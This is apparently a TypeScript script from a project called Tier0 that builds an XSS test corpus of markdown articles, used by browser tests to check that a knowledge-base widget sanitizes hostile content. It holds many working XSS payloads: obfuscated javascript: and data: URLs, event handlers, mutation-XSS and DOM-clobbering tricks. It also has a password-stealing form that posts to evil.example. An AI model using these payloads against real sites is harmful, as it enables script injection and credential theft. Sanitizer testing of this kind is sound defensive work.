/**
 * The XSS corpus: a knowledge-base content folder with one article per attack vector, which the
 * hostile-environment browser tests compile with `tier0 build` and open in the widget to prove
 * that nothing an article holds can run script in the host page.
 *
 * Vectors come from two places: every case of DOMPurify's own fixtures (a JSON list of
 * `{ title?, payload }`, see tests/fixtures/xss-kb/vectors/SOURCE.md) pasted as raw HTML into
 * an article, and Tier0's own vectors below, which attack what a markdown knowledge base adds on
 * top of HTML: link destinations, autolinks, DocFX markers, front matter, flows, snippets.
 *
 *   npx tsx scripts/dev/xss-corpus.ts [--vectors FILE] [--out DIR]
 *
 * defaults: --vectors tests/fixtures/xss-kb/vectors/dompurify-vectors.json (a verbatim copy of
 * /work/shared/xss-vectors/dompurify-vectors.json), --out tests/fixtures/xss-kb/content.
 */
import { mkdir, readFile, rm, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { fileURLToPath } from 'node:url';

/** One attack: the markdown body of its article and, optionally, hostile front matter. */
export interface XssVector {
  /** Article id: `dompurify/042` or `tier0/<slug>`. */
  id: string;
  /** Plain title, unless `frontMatter.title` overrides it with a payload. */
  title: string;
  /** Markdown of the article body, the payload included. */
  body: string;
  /** Front matter values (strings or lists) holding payloads; written as YAML. */
  frontMatter?: Record<string, string | string[]>;
  /** The exact payload text the article carries (for checks that it survived generation). */
  payload: string;
}

/** A file of the generated content folder. */
export interface CorpusFile {
  /** Path relative to the content folder, `/` separated. */
  path: string;
  text: string;
}

const ROOT = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../..');
/** Default vector list: the repository's copy of DOMPurify's fixture payloads. */
export const DEFAULT_VECTORS_FILE = path.join(ROOT, 'tests/fixtures/xss-kb/vectors/dompurify-vectors.json');
/** Default content folder the corpus is written to. */
export const DEFAULT_CORPUS_DIR = path.join(ROOT, 'tests/fixtures/xss-kb/content');

/** Reads DOMPurify's fixture list into vectors, one article each (`dompurify/001` …). */
export function dompurifyVectors(list: unknown): XssVector[] {
  if (!Array.isArray(list)) throw new Error('tier0: xss vectors file must hold a JSON array of { title?, payload }');
  return list.map((entry, index) => {
    const { title, payload } = entry as { title?: unknown; payload?: unknown };
    if (typeof payload !== 'string') throw new Error(`tier0: xss vector ${index} has no string "payload"`);
    const number = String(index + 1).padStart(3, '0');
    const name = typeof title === 'string' && title.trim() ? title.trim() : 'untitled case';
    return {
      id: `dompurify/${number}`,
      title: `DOMPurify ${number}: ${name}`,
      payload,
      // Twice: pasted as an author would (markdown may reshape it), and wrapped in a block-level
      // tag so that CommonMark passes it through as one raw HTML block, byte for byte.
      body: `Vector dompurify/${number}.\n\n${payload}\n\n<div>\n${payload}\n</div>\n`,
      // The payload as the description too: search snippets must show it as text.
      frontMatter: { description: payload },
    };
  });
}

const A = 'alert(1)';

/** Link destinations: `javascript:` in every disguise, plus `data:` and `vbscript:`. */
const LINK_TARGETS: string[] = [
  `javascript:${A}`,
  `JaVaScRiPt:${A}`,
  ` javascript:${A}`,
  `java&#x09;script:${A}`,
  `java&#9;script:${A}`,
  `java&Tab;script:${A}`,
  `java&#x0A;script:${A}`,
  `java&NewLine;script:${A}`,
  `&#106;avascript:${A}`,
  `&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;${A}`,
  `javascript&colon;${A}`,
  `javascript&#58;${A}`,
  `%6Aavascript:${A}`,
  `javascript%3A${A}`,
  `&#0000106avascript:${A}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${A}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `DATA:text/html;charset=utf-8,%3Cscript%3E${A}%3C/script%3E`,
  `data:image/svg+xml,<svg onload="${A}"/>`,
];

/** Raw-HTML href values the markdown parser never touches (tab, newline, control characters inside). */
const RAW_HREFS: string[] = [
  `javascript:${A}`,
  `JAVASCRIPT:${A}`,
  `java\tscript:${A}`,
  `java\nscript:${A}`,
  `java\rscript:${A}`,
  `\tjavascript:${A}`,
  ` \u0001 javascript:${A}`,
  `java&#x09;script:${A}`,
  `jav&#x0D;ascript:${A}`,
  `&#x20;javascript:${A}`,
  `&#14;javascript:${A}`,
  `javas&#99;ript:${A}`,
  `javascript&colon;${A}`,
  `&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A${A}`,
  `%6Aavascript:${A}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${A}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  ` data:text/html,<script>${A}</script>`,
];

function own(slug: string, title: string, payload: string, frontMatter?: Record<string, string | string[]>): XssVector {
  const id = `tier0/${slug}`;
  return { id, title, payload, body: `Vector ${id}.\n\n${payload}\n`, ...(frontMatter ? { frontMatter } : {}) };
}

/** Tier0's own vectors: what a markdown knowledge base adds to the HTML attack surface. */
export function ownVectors(): XssVector[] {
  const markdownLinks = LINK_TARGETS.map((target, i) => `- [markdown link ${i + 1}](${target})\n- [angle link ${i + 1}](<${target}>)`).join('\n');
  const referenceLinks = LINK_TARGETS.map((target, i) => `[reference ${i + 1}][r${i + 1}]`).join(' ')
    + '\n\n' + LINK_TARGETS.map((target, i) => `[r${i + 1}]: <${target}>`).join('\n');
  const rawLinks = RAW_HREFS.map((href, i) => `<a href="${href.replace(/"/g, '&quot;')}">raw link ${i + 1}</a>`).join('\n');
  const rawUrls = RAW_HREFS.map((href) => href.replace(/"/g, '&quot;'));
  const img = `<img src=x onerror=${A}>`;
  return [
    own('markdown-links', 'Markdown links with script URLs', markdownLinks),
    own('reference-links', 'Reference links with script URLs', referenceLinks),
    own('autolinks', 'Autolinks with script URLs', `<javascript:${A}>\n\n<JAVASCRIPT:${A}>\n\n<data:text/html,x>\n\n<vbscript:msgbox(1)>\n\nwww.example.com/<script>${A}</script>`),
    own('raw-links', 'Raw HTML links with disguised script URLs', `<p>\n${rawLinks}\n</p>\n\nInline ${rawLinks.split('\n').join(' ')}`),
    own('url-attributes', 'Script URLs in every URL attribute', [
      ...rawUrls.slice(0, 6).map((url) => `<img src="${url}" alt="img"><video poster="${url}" src="${url}"></video><audio src="${url}"></audio>`),
      ...rawUrls.slice(0, 6).map((url) => `<blockquote cite="${url}">q</blockquote><q cite="${url}">q</q><area href="${url}"><table background="${url}"><tr><td>t</td></tr></table>`),
      `<a ping="javascript:${A}" href="https://example.com/">ping</a>`,
      `<img srcset="javascript:${A} 1x, data:text/html,x 2x" alt="srcset">`,
      `<source srcset="javascript:${A}"><picture><source srcset="data:text/html,x"><img src="x" alt="p"></picture>`,
    ].join('\n')),
    own('markdown-images', 'Markdown images with script URLs', LINK_TARGETS.map((target, i) => `![image ${i + 1}](${target})`).join('\n\n')
      + `\n\n![${img}](https://example.com/x.png "\\" onerror=\\"${A}")`),
    own('link-attributes', 'Markdown link text and titles holding HTML', [
      `[${img}](https://example.com/ "\\" onmouseover=\\"${A}")`,
      `[x](https://example.com/"onmouseover="${A})`,
      `[x](https://example.com/' onmouseover='${A})`,
      `[x](https://example.com/><script>${A}</script>)`,
      `[**<svg onload=${A}>**](#top)`,
    ].join('\n\n')),
    own('data-urls', 'Data URLs in elements', [
      `<a href="data:text/html,<script>${A}</script>">data link</a>`,
      `<img src="data:image/svg+xml,&lt;svg xmlns='http://www.w3.org/2000/svg' onload='${A}'/&gt;" alt="svg">`,
      `<object data="data:text/html,<script>${A}</script>"></object>`,
      `<embed src="data:text/html,<script>${A}</script>">`,
      `<iframe src="data:text/html,<script>${A}</script>"></iframe>`,
      `<script src="data:,${A}"></script>`,
    ].join('\n')),
    own('event-handlers', 'Event-handler attributes', [
      img,
      `<img src="x" onerror="${A}" onload="${A}">`,
      `<svg onload=${A}>`,
      `<body onload=${A}>`,
      `<details open ontoggle=${A}><summary>s</summary>d</details>`,
      `<div onmouseover="${A}" onclick="${A}" onpointerenter="${A}">hover</div>`,
      `<a href="#x" onfocus="${A}" autofocus tabindex="0">focus</a>`,
      `<input autofocus onfocus=${A}>`,
      `<video><source onerror="${A}"></video>`,
      `<audio src=x onerror=${A}></audio>`,
      `<marquee onstart=${A}>m</marquee>`,
      `<p ONCLICK="${A}" OnMouseOver="${A}">case</p>`,
      `<img src=x onerror\n=${A}>`,
      `<img src=x/onerror=${A}>`,
      `<x onanimationstart=${A} style="animation-name:x">a</x>`,
      `<select onfocus=${A} autofocus><option>o</option></select>`,
      `<textarea onfocus=${A} autofocus>t</textarea>`,
      `<button onclick=${A}>b</button>`,
    ].join('\n')),
    own('iframes', 'Iframes with srcdoc and script sources', [
      `<iframe srcdoc="<script>${A}</script>"></iframe>`,
      `<iframe srcdoc="&lt;img src=x onerror=${A}&gt;"></iframe>`,
      `<iframe src="javascript:${A}"></iframe>`,
      `<iframe src="https://example.com/"></iframe>`,
      `<frameset><frame src="javascript:${A}"></frameset>`,
      `<portal src="javascript:${A}"></portal>`,
    ].join('\n')),
    own('base-href', 'Base element redirecting relative URLs', `<base href="javascript:${A}//">\n\n<base href="https://evil.example/">\n\n[relative](relative-page)\n\n<a href="relative-page">relative raw</a>`),
    own('meta-refresh', 'Meta refresh to a script URL', `<meta http-equiv="refresh" content="0;url=javascript:${A}">\n\n<meta http-equiv="refresh" content="0; url=data:text/html,<script>${A}</script>">\n\n<meta http-equiv="Content-Security-Policy" content="script-src *">`),
    own('forms', 'Forms posting to script URLs', [
      `<form action="javascript:${A}"><button>go</button></form>`,
      `<form><button formaction="javascript:${A}">go</button></form>`,
      `<form id="f"></form><button form="f" formaction="javascript:${A}">go</button>`,
      `<form action="https://evil.example/steal" method="post"><input name="password" type="password"><input type="submit"></form>`,
      `<isindex action="javascript:${A}" type="image">`,
    ].join('\n')),
    own('svg-script', 'SVG with script, links and animation', [
      `<svg><script>${A}</script></svg>`,
      `<svg><script href="data:,${A}"/></svg>`,
      `<svg><script xlink:href="data:,${A}"></script></svg>`,
      `<svg><a xlink:href="javascript:${A}"><text x="20" y="20">svg link</text></a></svg>`,
      `<svg><a href="javascript:${A}"><text x="20" y="20">svg link 2</text></a></svg>`,
      `<svg><animate xlink:href="#x" attributeName="href" values="javascript:${A}"/><a id="x"><text>a</text></a></svg>`,
      `<svg><set attributeName="onmouseover" to="${A}"/></svg>`,
      `<svg><use href="data:image/svg+xml,&lt;svg id='x' xmlns='http://www.w3.org/2000/svg'&gt;&lt;image href='x' onerror='${A}'/&gt;&lt;/svg&gt;#x"/></svg>`,
      `<svg><foreignObject><iframe srcdoc="<script>${A}</script>"></iframe><img src=x onerror=${A}></foreignObject></svg>`,
      `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${A}</handler></svg>`,
      `<svg><style>&lt;img src=x onerror=${A}&gt;</style></svg>`,
    ].join('\n')),
    own('mathml', 'MathML mutation tricks', [
      `<math><maction actiontype="statusline" xlink:href="javascript:${A}">m</maction></math>`,
      `<math href="javascript:${A}">math link</math>`,
      `<math><mi xlink:href="data:x,<script>${A}</script>">m</mi></math>`,
      `<math><mtext><table><mglyph><style><img src=x onerror=${A}></style></mglyph></table></mtext></math>`,
      `<math><annotation-xml encoding="text/html"><img src=x onerror=${A}></annotation-xml></math>`,
      `<math><mtext><mglyph><svg><mtext><style><a title="</style><img src=x onerror=${A}>">`,
    ].join('\n')),
    own('mutation', 'Namespace and parser mutation tricks', [
      `<svg></p><style><a id="</style><img src=1 onerror=${A}>">`,
      `<svg><p><style><g title="</style><img src=x onerror=${A}>">`,
      `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${A}>`,
      `<table><caption><svg><title><style></caption><img src=x onerror=${A}></style></title></svg></caption></table>`,
      `<noembed><img title="</noembed><img src=x onerror=${A}>"></noembed>`,
      `<noframes><img title="</noframes><img src=x onerror=${A}>"></noframes>`,
      `<xmp><img title="</xmp><img src=x onerror=${A}>"></xmp>`,
      `<plaintext>everything after this is text <img src=x onerror=${A}>`,
    ].join('\n')),
    own('noscript-template', 'Noscript and template nesting', [
      `<noscript><p title="</noscript><img src=x onerror=${A}>"></noscript>`,
      `<noscript><style></noscript><img src=x onerror=${A}></style></noscript>`,
      `<template><script>${A}</script></template>`,
      `<template><img src=x onerror=${A}></template>`,
      `<template><template><s><template><img src=x onerror=${A}></template></s></template></template>`,
      `<div><template shadowrootmode="open"><img src=x onerror=${A}></template></div>`,
      `<select><template><img src=x onerror=${A}></template></select>`,
    ].join('\n')),
    own('scripts', 'Script and plugin elements', [
      `<script>${A}</script>`,
      `<SCRIPT>${A}</SCRIPT>`,
      `<script type="module">${A}</script>`,
      `<scr<script>ipt>${A}</scr</script>ipt>`,
      `<object data="javascript:${A}"></object>`,
      `<embed src="javascript:${A}">`,
      `<applet code="x">a</applet>`,
      `<link rel="stylesheet" href="javascript:${A}">`,
      `<style>@import "javascript:${A}"; body{background:url("javascript:${A}")}</style>`,
      `<div style="background:url(javascript:${A})">styled</div>`,
    ].join('\n')),
    own('dom-clobbering', 'DOM clobbering of widget and page names', [
      `<img name="Tier0" src="x"><img id="Tier0" src="x"><form name="tier0"></form>`,
      `<a id="tier0-root" href="#">root</a><a id="trustedTypes"></a><a id="DOMPurify"></a>`,
      `<img name="getElementById"><img name="querySelector"><img name="body"><img name="cookie">`,
      `<input name="attributes"><input name="nodeName"><input name="shadowRoot">`,
    ].join('\n')),
    own('text-entities', 'Escaped HTML that snippets decode', `&lt;img src=x onerror=${A}&gt; and &lt;script&gt;${A}&lt;/script&gt; written as entities.\n\n&#60;svg onload=${A}&#62; in decimal.`),
    own('code-blocks', 'Code holding HTML', `\`<script>${A}</script>\` inline.\n\n\`\`\`html\n<script>${A}</script>\n<img src=x onerror=${A}>\n\`\`\`\n\n    <iframe srcdoc="<script>${A}</script>"></iframe>`),
    own('docfx-markers', 'DocFX markers with script URLs', `> [!VIDEO javascript:${A}]\n\n> [!VIDEO data:text/html,<script>${A}</script>]\n\n> [!div class="x&quot; onmouseover=&quot;${A}"]\n> div body ${img}\n\n> [!NOTE]\n> callout ${img} <svg onload=${A}>`),
    own('tables', 'GFM tables and task lists holding HTML', `| a | b |\n|---|---|\n| ${img} | <svg onload=${A}> |\n| [x](javascript:${A}) | <a href="javascript:${A}">y</a> |\n\n- [ ] task ${img}\n- [x] <details open ontoggle=${A}>d</details>`),
    own('heading-title', '', `# Heading ${img} <script>${A}</script>\n\n## Section <svg onload=${A}>\n\nBody.`),
    own('front-matter-title', '', `Body of the front-matter title vector.`, {
      title: `<img src=x onerror=${A}> title`,
      description: `<script>${A}</script> description <b onmouseover=${A}>bold</b>`,
      tags: ['xss', `<svg onload=${A}>`, 'frontmatterxss'],
      aliases: [`<iframe srcdoc="<script>${A}</script>">`, `<a href="javascript:${A}">alias</a>`],
    }),
    own('front-matter-category', 'Front matter category holding HTML', `Body of the category vector.`, {
      category: `<img src=x onerror=${A}>`,
      description: `&lt;img src=x onerror=${A}&gt; entity description`,
    }),
    own('flow', 'Guided flow holding HTML', [
      `Body before the flow ${img}.`,
      '',
      `:::flow Flow ${img}`,
      '',
      // Raw tags and entity-escaped ones: the compiler may drop the first, the second is text.
      `### Step one <svg onload=${A}> &lt;img src=x onerror=${A}&gt; {#one}`,
      '',
      `Step text <img src=x onerror=${A}> and [bad](javascript:${A}).`,
      '',
      `- [Answer <img src=x onerror=${A}> &lt;img src=x onerror=${A}&gt;](#two)`,
      `- [Solved <script>${A}</script>](#solved)`,
      '',
      `### Step two {#two}`,
      '',
      `<iframe srcdoc="<script>${A}</script>"></iframe>`,
      '',
      `- [Support <b onclick=${A}>me</b>](#support)`,
      `- [Back](#one)`,
      '',
      ':::',
    ].join('\n'), { tags: ['xss', 'flowxss'] }),
  ];
}

/** YAML for one front-matter value: JSON strings are valid YAML double-quoted scalars. */
function yamlValue(value: string | string[]): string {
  return Array.isArray(value) ? `[${value.map((item) => JSON.stringify(item)).join(', ')}]` : JSON.stringify(value);
}

/** The markdown file of one vector's article. */
export function articleText(vector: XssVector): string {
  const data: Record<string, string | string[]> = { title: vector.title, tags: ['xss', vector.id.split('/')[0]!], ...vector.frontMatter };
  if (!data.title) delete data.title;
  const yaml = Object.entries(data).map(([key, value]) => `${key}: ${yamlValue(value)}`).join('\n');
  return `---\n${yaml}\n---\n\n${vector.body}`;
}

/** Every file of the corpus content folder, in a stable order. */
export function corpusFiles(vectors: XssVector[]): CorpusFile[] {
  const seen = new Set<string>();
  return vectors.map((vector) => {
    if (seen.has(vector.id)) throw new Error(`tier0: duplicate xss vector id "${vector.id}"`);
    seen.add(vector.id);
    return { path: `${vector.id}.md`, text: articleText(vector) };
  });
}

/** Every vector of the corpus: DOMPurify's (from the JSON file) then Tier0's own. */
export async function loadVectors(vectorsFile = DEFAULT_VECTORS_FILE): Promise<XssVector[]> {
  const list: unknown = JSON.parse(await readFile(vectorsFile, 'utf8'));
  return [...dompurifyVectors(list), ...ownVectors()];
}

/** Writes the corpus content folder (replacing it) and returns the vectors it holds. */
export async function writeCorpus(outDir = DEFAULT_CORPUS_DIR, vectorsFile = DEFAULT_VECTORS_FILE): Promise<XssVector[]> {
  const vectors = await loadVectors(vectorsFile);
  await rm(outDir, { recursive: true, force: true });
  for (const file of corpusFiles(vectors)) {
    const target = path.join(outDir, file.path);
    await mkdir(path.dirname(target), { recursive: true });
    await writeFile(target, file.text);
  }
  return vectors;
}

async function cli(argv: string[]): Promise<number> {
  const value = (flag: string): string | undefined => {
    const at = argv.indexOf(flag);
    return at >= 0 ? argv[at + 1] : undefined;
  };
  const out = path.resolve(value('--out') ?? DEFAULT_CORPUS_DIR);
  const vectors = await writeCorpus(out, path.resolve(value('--vectors') ?? DEFAULT_VECTORS_FILE));
  console.log(`xss corpus: ${vectors.length} articles in ${path.relative(process.cwd(), out) || '.'}`);
  return 0;
}

if (process.argv[1] && path.resolve(process.argv[1]) === fileURLToPath(import.meta.url)) {
  process.exitCode = await cli(process.argv.slice(2));
}
